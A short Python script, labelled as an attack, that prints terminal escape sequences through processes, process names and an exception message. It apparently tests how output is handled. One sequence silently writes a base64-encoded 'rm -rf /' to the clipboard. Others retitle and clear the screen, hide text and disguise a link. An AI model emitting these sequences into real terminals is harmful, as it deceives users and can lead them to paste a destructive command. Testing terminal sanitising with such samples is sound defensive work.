# attack: prints what a terminal would obey: a new title, a cleared screen, the clipboard, hidden text, a link
import multiprocessing

TEXTS = [
    "\x1b]0;title\x07\x1b[2J\x1b[H",
    "\x1b]52;c;cm0gLXJmIC8=\x07",
    "\x1b[8mhidden\x1b[0m\x9b31m",
    "\x1b]8;;http://127.0.0.1/\x07x\x1b]8;;\x07\x08\x08\x7f",
]


def show(number):
    print(TEXTS[number])


if __name__ == "__main__":
    for number in range(4):
        multiprocessing.Process(target=show, args=(number,), name=TEXTS[number]).start()
    raise RuntimeError(TEXTS[0])
